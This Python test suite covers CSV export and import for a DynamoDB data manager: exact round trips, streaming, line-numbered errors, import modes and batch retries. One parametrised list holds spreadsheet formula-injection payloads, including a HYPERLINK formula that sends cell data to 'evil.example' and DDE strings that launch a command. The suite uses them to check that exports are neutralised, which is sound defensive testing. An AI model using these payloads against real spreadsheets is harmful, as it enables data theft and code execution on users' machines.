"""CSV export and import: exact round trips of every type, streaming, line-numbered
refusals, the two import modes, idempotent re-imports and unwritten batches."""

from __future__ import annotations

import csv
import dataclasses
import io
import types
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import pytest

from apps.datamanager import csv_io, dynamo
from apps.datamanager.csv_io import (
    ALL_OR_NOTHING,
    SKIP,
    CsvInvalid,
    MappingInvalid,
    decode_csv,
    export_lines,
    export_selected,
    import_rows,
    mapping_problems,
    read_csv,
    suggest_mapping,
    validate_rows,
)
from apps.datamanager.schema import DataSchema, Field, Model, schema_from_introspection
from apps.datamanager.tests.factories import every_type_schema, fixture_introspection, make_table, scan
from console.aws import aws_client

pytestmark = pytest.mark.django_db


@pytest.fixture
def schema() -> DataSchema:
    return every_type_schema()


@pytest.fixture
def item_model(schema: DataSchema) -> Model:
    found = schema.model("Item")
    assert found is not None
    return found


@pytest.fixture
def post_model(schema: DataSchema) -> Model:
    found = schema.model("Post")
    assert found is not None
    return found


def full_item() -> dict[str, Any]:
    """A record with every field set, with values CSV finds awkward."""
    return {
        "id": "item-1",
        "title": '  "Quoted", with commas,\r\nnewlines\nand ünïcödé 🎉  ',
        "count": Decimal(-2147483648),
        "price": Decimal("3.14159"),
        "done": True,
        "due": "2026-11-26",
        "at": "14:30:00.123Z",
        "when": "2026-11-26T14:30:00.000+01:00",
        "stamp": Decimal(1700000000),
        "email": "ada@example.com",
        "meta": '{"a": [1, 2.5, null], "b": {"c": "d,e"}}',
        "phone": "+1 (415) 555-0123",
        "site": "https://example.com/path?q=1&r=2",
        "ip": "2001:db8::1",
        "priority": "high",
        "address": {"street": "1 Main St, Apt \"2\"", "zip": Decimal(12345), "lat": Decimal("-0.5"),
                    "lines": ["a", "b"], "extra": '{"x":1}'},
        "tags": ["one", "two, three", ""],
        "scores": [Decimal(1), Decimal(-2), Decimal(0)],
        "ratios": [Decimal("1.5"), Decimal("2"), Decimal("0.001")],
        "flags": [True, False],
        "levels": ["low", "high"],
        "places": [{"street": "x"}, {"street": "y", "zip": Decimal(1)}],
        "blobs": ["[1,2]", '"text"'],
        "createdAt": "2025-01-02T03:04:05.678Z",
        "updatedAt": "2025-02-03T04:05:06.789Z",
        "__typename": "Item",
    }  # fmt: skip


def sparse_item() -> dict[str, Any]:
    return {"id": "item-2", "title": "only the title", "done": False, "scores": [],
            "createdAt": "2025-01-01T00:00:00.000Z", "updatedAt": "2025-01-01T00:00:00.000Z", "__typename": "Item"}  # fmt: skip


def import_text(table: dynamo.Table, model: Model, schema: DataSchema, text: str, mode: str = SKIP) -> csv_io.ImportReport:
    parsed = read_csv(text)
    results = validate_rows(parsed, suggest_mapping(parsed.header, model), model, schema)
    return import_rows(table, model, results, mode=mode)


def put(table: dynamo.Table, items: list[dict[str, Any]]) -> None:
    result = dynamo.batch_put(table, items)
    assert result.written == len(items)
    assert not result.failed


# Export and round trips


def test_export_then_import_round_trips_every_field_type_exactly(schema: DataSchema, item_model: Model) -> None:
    source = make_table(item_model)
    target = make_table(item_model, name="Item-other-NONE")
    put(source, [full_item(), sparse_item()])

    text = "".join(export_lines(item_model, dynamo.scan_all(source)))
    report = import_text(target, item_model, schema, text, mode=ALL_OR_NOTHING)

    assert (report.written, report.refused, report.unwritten) == (2, [], [])
    assert scan(target) == scan(source)
    assert scan(target)[0] == full_item()


HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'plain apostrophe",
]


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_a_cell_that_reads_as_a_formula_is_exported_inert_and_imported_back_as_it_was(
    schema: DataSchema, item_model: Model, title: str
) -> None:
    source = make_table(item_model)
    target = make_table(item_model, name="Item-other-NONE")
    put(source, [{**full_item(), "title": title}])

    text = "".join(export_lines(item_model, dynamo.scan_all(source)))
    cells = next(iter(csv.DictReader(io.StringIO(text, newline=""))))
    # OWASP: a leading apostrophe, so no spreadsheet runs it; numbers keep their sign.
    assert cells["title"] == "'" + title
    assert cells["count"] == "-2147483648"
    report = import_text(target, item_model, schema, text, mode=ALL_OR_NOTHING)
    assert report.written == 1
    assert scan(target)[0]["title"] == title


def test_every_csv_export_of_the_console_makes_formula_cells_inert() -> None:
    from console.csv_stream import csv_response, inert, restored

    response = csv_response(["name", "owner"], [["=cmd()", "-5"], ["@x", "alice"]], "sandboxes.csv")
    body = b"".join(response.streaming_content).decode()  # type: ignore[arg-type]
    assert body.splitlines() == ["name,owner", "'=cmd(),-5", "'@x,alice"]
    for value in ["=1", "+1", "-1", "-x", "@a", "'", "''=1", "plain", "1e5", "-.5"]:
        assert restored(str(inert(value))) == value


def test_composite_sort_key_round_trips_and_is_not_exported(schema: DataSchema, post_model: Model) -> None:
    source = make_table(post_model)
    assert source.range_key == "title#description"
    posts = [
        dynamo.stamp_new(post_model, source, {"blogId": "b1", "title": "Hello", "description": "first", "body": "x"}),
        dynamo.stamp_new(post_model, source, {"blogId": "b1", "title": "Hello", "description": "second"}),
    ]
    put(source, posts)
    text = "".join(export_lines(post_model, dynamo.scan_all(source)))
    assert text.splitlines()[0] == "blogId,title,description,body,createdAt,updatedAt"
    assert "Hello#first" not in text

    target = make_table(post_model, name="Post-other-NONE")
    report = import_text(target, post_model, schema, text)

    assert report.written == 2
    assert scan(target) == scan(source)
    assert {item["title#description"] for item in scan(target)} == {"Hello#first", "Hello#second"}


def test_export_writes_booleans_lists_and_json_as_text(item_model: Model) -> None:
    lines = list(export_lines(item_model, [full_item()]))
    row = next(iter(read_csv("".join(lines)).rows)).cells
    cell = dict(zip(read_csv("".join(lines)).header, row, strict=True))
    assert cell["done"] == "true"
    assert cell["flags"] == "[true,false]"
    assert cell["ratios"] == "[1.5,2,0.001]"
    assert cell["address"] == '{"street":"1 Main St, Apt \\"2\\"","zip":12345,"lat":-0.5,"lines":["a","b"],"extra":"{\\"x\\":1}"}'
    assert cell["meta"] == full_item()["meta"]
    assert cell["count"] == "-2147483648"
    assert "__typename" not in cell


def test_export_consumes_records_lazily(item_model: Model) -> None:
    taken = []

    def records() -> Iterator[dict[str, Any]]:
        for n in range(1_000_000):
            taken.append(n)
            yield {"id": f"id-{n}", "title": f"t{n}"}

    lines = export_lines(item_model, records())
    assert isinstance(lines, types.GeneratorType)
    header, first = next(lines), next(lines)
    assert header.startswith("id,title,")
    assert first.startswith("id-0,t0,")
    assert taken == [0]


def test_export_reads_the_table_through_scan_pages(item_model: Model, monkeypatch: pytest.MonkeyPatch) -> None:
    table = make_table(item_model)
    put(table, [{"id": f"r{n:03d}", "title": "x", "__typename": "Item"} for n in range(30)])
    client = aws_client("dynamodb", region=table.region)
    calls = []
    original = client.scan

    def small_pages(**kwargs: Any) -> Any:
        calls.append(kwargs)
        return original(**{**kwargs, "Limit": 7})

    monkeypatch.setattr(client, "scan", small_pages)
    lines = export_lines(item_model, dynamo.scan_all(table))
    for _ in range(3):
        next(lines)
    assert len(calls) == 1  # two records read: only the first page was fetched
    assert len(list(lines)) == 28
    assert len(calls) == 5


def test_bom_comes_first_and_reading_removes_it(item_model: Model) -> None:
    lines = list(export_lines(item_model, [sparse_item()], bom=True))
    assert lines[0].startswith("\ufeffid,title,")
    assert read_csv("".join(lines)).header[0] == "id"
    assert decode_csv("".join(lines).encode("utf-8")).startswith("id,")


def test_export_selected_reads_only_the_given_keys(item_model: Model) -> None:
    table = make_table(item_model)
    put(table, [full_item(), sparse_item()])
    lines = list(export_selected(table, item_model, [{"id": "item-2"}, {"id": "gone"}]))
    assert len(lines) == 2
    assert lines[1].startswith("item-2,only the title,")


# Reading a file


def test_read_csv_numbers_rows_by_their_first_line() -> None:
    parsed = read_csv('id,title\r\na,"two\r\nlines"\r\n\r\nb,"three\nline\ncell"\nc,plain\n')
    assert parsed.header == ["id", "title"]
    assert [(row.line, row.cells) for row in parsed.rows] == [
        (2, ["a", "two\r\nlines"]),
        (5, ["b", "three\nline\ncell"]),
        (8, ["c", "plain"]),
    ]


def test_ragged_rows_are_errors_for_their_line_only() -> None:
    parsed = read_csv("id,title\na,b\nc\nd,e,f\ng,h\n")
    assert [(row.line, row.error) for row in parsed.rows] == [
        (2, ""),
        (3, "has 1 cells but the header has 2 columns"),
        (4, "has 3 cells but the header has 2 columns"),
        (5, ""),
    ]


def test_an_unclosed_quote_is_reported_where_it_starts() -> None:
    parsed = read_csv('id,title\na,b\nc,"never closed\nd,e\n')
    assert parsed.rows[-1].line == 3
    assert parsed.rows[-1].error == "a quoted cell starts on this line and is never closed"


@pytest.mark.parametrize("text", ["", "   \n\n", "\ufeff"])
def test_an_empty_file_is_refused(text: str) -> None:
    with pytest.raises(CsvInvalid, match="The file is empty"):
        read_csv(text)


def test_a_header_with_a_repeated_column_is_refused() -> None:
    with pytest.raises(CsvInvalid) as caught:
        read_csv("id,title,Title,title\n1,2,3,4\n")
    assert caught.value.errors == ["line 1: the header has the column 'title' twice (columns 2 and 4)"]


def test_too_many_rows_are_refused_with_a_clear_message(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_io, "MAX_ROWS", 3)
    assert len(read_csv("id\n1\n2\n3\n").rows) == 3
    with pytest.raises(CsvInvalid, match="more than 3 rows; split it into parts of at most 3"):
        read_csv("id\n1\n2\n3\n4\n")


def test_a_file_over_the_size_limit_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_io, "MAX_CSV_BYTES", 100)
    with pytest.raises(CsvInvalid, match="the limit is"):
        read_csv("id\n" + "x" * 200)
    with pytest.raises(CsvInvalid, match="the limit is"):
        decode_csv(b"id\n" + b"x" * 200)


def test_a_file_that_is_not_utf8_is_refused() -> None:
    with pytest.raises(CsvInvalid, match="not UTF-8 text"):
        decode_csv("id,title\n1,café\n".encode("latin-1"))


# Mapping and validation


def test_suggest_mapping_matches_exactly_then_ignoring_case(item_model: Model) -> None:
    mapping = suggest_mapping(["ID", "title", "Title", "PRIORITY", "colour", ""], item_model)
    assert mapping == {"ID": "id", "title": "title", "Title": "", "PRIORITY": "priority", "colour": ""}


def test_mapping_problems_name_missing_keys_unknown_and_repeated_fields(post_model: Model) -> None:
    header = ["blogId", "heading", "body", "text"]
    mapping = {"blogId": "blogId", "heading": "title", "body": "body", "text": "body", "nope": "colour"}
    assert mapping_problems(header, mapping, post_model) == [
        "there is no column 'nope' in the file",
        "the field body is mapped from two columns, 'body' and 'text'",
        "Post has no stored field 'colour' (column 'nope')",
        "the key field description has no column",
    ]


def test_an_id_key_needs_no_column_but_other_required_fields_do(item_model: Model) -> None:
    assert mapping_problems(["title"], {"title": "title"}, item_model) == []
    assert mapping_problems(["count"], {"count": "count"}, item_model) == ["the required field title has no column"]


def test_a_list_is_required_only_when_the_list_itself_is(item_model: Model) -> None:
    labels = Field(name="labels", type="String", kind="scalar", is_array=True, is_required=True)  # [String!]
    model = dataclasses.replace(item_model, fields=(*item_model.fields, labels))
    assert mapping_problems(["title"], {"title": "title"}, model) == []
    required = dataclasses.replace(labels, is_array_nullable=False)  # [String!]!
    strict = dataclasses.replace(item_model, fields=(*item_model.fields, required))
    assert mapping_problems(["title"], {"title": "title"}, strict) == ["the required field labels has no column"]


def test_validate_rows_names_line_and_field(schema: DataSchema, item_model: Model) -> None:
    text = (
        "id,title,priority,count,address\n"
        "a,first,low,1,\n"
        'b,"multi\nline",urgent,2,\n'
        "c,,medium,x,\n"
        'd,fourth,high,3,"{""street"": 5}"\n'
    )
    parsed = read_csv(text)
    results = validate_rows(parsed, suggest_mapping(parsed.header, item_model), item_model, schema)
    assert [r.line for r in results] == [2, 3, 5, 6]
    assert results[0].item == {"id": "a", "title": "first", "priority": "low", "count": 1}
    messages = [m for r in results for m in r.messages]
    assert messages == [
        "line 3: priority: 'urgent' is not one of low, medium, high",
        "line 5: title: is required",
        "line 5: count: 'x' is not a whole number",
        "line 6: address.street: must be text, not 5",
    ]


def test_validate_rows_refuses_a_blank_key_field(schema: DataSchema, post_model: Model) -> None:
    parsed = read_csv("blogId,title,description\nb1,  ,d\n")
    results = validate_rows(parsed, suggest_mapping(parsed.header, post_model), post_model, schema)
    assert results[0].messages == ["line 2: title: is required"]


def test_validate_rows_refuses_a_key_repeated_in_the_file(schema: DataSchema, item_model: Model) -> None:
    parsed = read_csv("id,title\na,one\nb,two\na,three\n,same\n,same\n")
    results = validate_rows(parsed, suggest_mapping(parsed.header, item_model), item_model, schema)
    assert [r.item is not None for r in results] == [True, True, False, True, False]
    assert results[2].messages == ["line 4: has the same key as line 2 (id 'a'); a file holds each record once"]
    assert results[4].messages[0].startswith("line 6: has the same key as line 5")


def test_validate_rows_raises_for_a_mapping_that_cannot_work(schema: DataSchema, post_model: Model) -> None:
    parsed = read_csv("blogId,title\nb,t\n")
    with pytest.raises(MappingInvalid, match="the key field description has no column"):
        validate_rows(parsed, suggest_mapping(parsed.header, post_model), post_model, schema)


def test_rows_without_id_get_the_same_id_from_the_same_values(schema: DataSchema, item_model: Model) -> None:
    parsed = read_csv("title,count,price\nhello,1,1.50\nhello,1,1.5\nhello,2,1.5\n")
    mapping = suggest_mapping(parsed.header, item_model)
    first = validate_rows(parsed, mapping, item_model, schema)
    again = validate_rows(read_csv("title,count,price\nhello,2,1.5\n"), mapping, item_model, schema)
    assert first[1].item is None  # 1.50 and 1.5 are the same value, so the same record
    assert first[0].item
    assert first[2].item
    assert again[0].item
    assert first[0].item["id"] != first[2].item["id"]
    assert again[0].item["id"] == first[2].item["id"]


# Writing


def test_all_or_nothing_writes_nothing_when_a_line_is_bad(schema: DataSchema, item_model: Model) -> None:
    table = make_table(item_model)
    seen: list[tuple[int, int]] = []
    parsed = read_csv("id,title,priority\na,one,low\nb,two,urgent\nc,three,high\n")
    results = validate_rows(parsed, suggest_mapping(parsed.header, item_model), item_model, schema)
    report = import_rows(
        table, item_model, results, mode=ALL_OR_NOTHING, progress=lambda r: seen.append((r.written, len(r.refused)))
    )

    assert scan(table) == []
    assert (report.written, report.held_back, report.unwritten) == (0, 2, [])
    assert report.line_errors == ["line 3: priority: 'urgent' is not one of low, medium, high"]
    assert seen == [(0, 1)]


def test_skip_mode_writes_the_good_rows(schema: DataSchema, item_model: Model) -> None:
    table = make_table(item_model)
    report = import_text(table, item_model, schema, "id,title,priority\na,one,low\nb,two,urgent\nc,three,high\n", mode=SKIP)

    assert report.written == 2
    assert report.line_errors == ["line 3: priority: 'urgent' is not one of low, medium, high"]
    items = scan(table)
    assert [(i["id"], i["title"], i["priority"], i["__typename"]) for i in items] == [
        ("a", "one", "low", "Item"),
        ("c", "three", "high", "Item"),
    ]
    assert all(i["createdAt"].endswith("Z") and i["updatedAt"] for i in items)


def test_importing_the_same_file_twice_leaves_the_same_records(schema: DataSchema, item_model: Model) -> None:
    table = make_table(item_model)
    text = 'title,count,tags\nfirst,1,"[""x""]"\nsecond,2,\nthird,3,[]\n'
    import_text(table, item_model, schema, text)
    once = scan(table)
    import_text(table, item_model, schema, text)
    twice = scan(table)

    def without_timestamps(items: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [{k: v for k, v in i.items() if k not in ("createdAt", "updatedAt")} for i in items]

    assert len(once) == len(twice) == 3
    assert without_timestamps(once) == without_timestamps(twice)


def test_importing_an_export_twice_changes_nothing(schema: DataSchema, item_model: Model) -> None:
    table = make_table(item_model)
    put(table, [full_item(), sparse_item()])
    text = "".join(export_lines(item_model, dynamo.scan_all(table)))
    before = scan(table)
    import_text(table, item_model, schema, text)
    import_text(table, item_model, schema, text)
    assert scan(table) == before


def test_timestamps_from_the_file_are_kept_and_missing_ones_stamped(schema: DataSchema, item_model: Model) -> None:
    table = make_table(item_model)
    import_text(table, item_model, schema, "id,title,createdAt,updatedAt\na,x,2020-01-01T00:00:00.000Z,\n")
    [item] = scan(table)
    assert item["createdAt"] == "2020-01-01T00:00:00.000Z"
    assert item["updatedAt"] > "2025"


def test_progress_is_reported_after_each_batch(schema: DataSchema, item_model: Model) -> None:
    table = make_table(item_model)
    parsed = read_csv("title\n" + "".join(f"t{n}\n" for n in range(60)))
    results = validate_rows(parsed, suggest_mapping(parsed.header, item_model), item_model, schema)
    seen: list[int] = []
    report = import_rows(table, item_model, results, batch_size=25, progress=lambda r: seen.append(r.written))
    assert seen == [25, 50, 60]
    assert report.written == 60
    assert len(scan(table)) == 60


def _unprocessing(monkeypatch: pytest.MonkeyPatch, table: dynamo.Table, stuck: set[str], times: int) -> list[int]:
    """Make BatchWriteItem hand back the items with these ids as unprocessed, `times` times."""
    client = aws_client("dynamodb", region=table.region)
    original = client.batch_write_item
    calls: list[int] = []

    def batch_write_item(*, RequestItems: dict[str, Any]) -> dict[str, Any]:
        requests = RequestItems[table.name]
        calls.append(len(requests))
        held = [r for r in requests if r["PutRequest"]["Item"]["id"]["S"] in stuck] if len(calls) <= times else []
        rest = [r for r in requests if r not in held]
        response = original(RequestItems={table.name: rest}) if rest else {"UnprocessedItems": {}}
        return {**response, "UnprocessedItems": {table.name: held} if held else {}}

    monkeypatch.setattr(client, "batch_write_item", batch_write_item)
    return calls


def test_unprocessed_items_are_retried_until_written(
    schema: DataSchema, item_model: Model, monkeypatch: pytest.MonkeyPatch
) -> None:
    table = make_table(item_model)
    calls = _unprocessing(monkeypatch, table, {"b", "c"}, times=2)
    sleeps: list[float] = []
    parsed = read_csv("id,title\na,1\nb,2\nc,3\nd,4\n")
    results = validate_rows(parsed, suggest_mapping(parsed.header, item_model), item_model, schema)
    report = import_rows(table, item_model, results, sleep=sleeps.append)

    assert calls == [4, 2, 2]
    assert len(sleeps) == 2
    assert (report.written, report.unwritten) == (4, [])
    assert [i["id"] for i in scan(table)] == ["a", "b", "c", "d"]


def test_items_that_stay_unprocessed_are_reported_with_their_keys(
    schema: DataSchema, item_model: Model, monkeypatch: pytest.MonkeyPatch
) -> None:
    table = make_table(item_model)
    calls = _unprocessing(monkeypatch, table, {"c"}, times=1000)
    parsed = read_csv("id,title\na,1\nb,2\nc,3\n")
    results = validate_rows(parsed, suggest_mapping(parsed.header, item_model), item_model, schema)
    report = import_rows(table, item_model, results, sleep=lambda _: None)

    assert len(calls) == dynamo.BATCH_RETRIES
    assert report.written == 2
    assert report.unwritten == [{"id": "c"}]
    assert report.as_json()["unwritten_keys"] == [{"id": "c"}]
    assert [i["id"] for i in scan(table)] == ["a", "b"]


def test_import_rows_refuses_an_unknown_mode(item_model: Model) -> None:
    with pytest.raises(ValueError, match="mode must be one of skip, all_or_nothing"):
        import_rows(make_table(item_model), item_model, [], mode="most")


# Real codegen schemas


@pytest.mark.parametrize(
    ("fixture", "model_name"),
    [
        ("23-schemas-with-pk-on-a-belongsto-fk-works-for-v2.json", "Post"),
        ("17-custom-references-hasmany-with-sortkeyfields-on-primary-key.json", "Primary"),
        ("08-model-introspection-visitor-metadata-snapshot.json", "SimpleModel"),
        ("09-primary-key-info-tests.json", "Todo2"),
    ],
)
def test_real_schemas_round_trip_through_csv(fixture: str, model_name: str) -> None:
    schema = schema_from_introspection(fixture_introspection(fixture))
    model = schema.model(model_name)
    assert model is not None
    source = make_table(model)
    target = make_table(model, name=f"{model.name}-copy-NONE")
    record = {f.name: f"{f.name}-value" for f in model.editable_fields if f.type in ("ID", "String")}
    put(source, [dynamo.stamp_new(model, source, record)])

    text = "".join(export_lines(model, dynamo.scan_all(source)))
    report = import_text(target, model, schema, text, mode=ALL_OR_NOTHING)

    assert report.line_errors == []
    assert report.written == 1
    assert scan(target) == scan(source)


def test_a_file_with_a_nul_character_is_not_read_as_csv() -> None:
    with pytest.raises(csv_io.CsvInvalid) as refused:
        csv_io.decode_csv(b"title\nbad\x00value\n")
    assert refused.value.errors == ["The file holds a NUL character at position 10: it is not a CSV text file."]
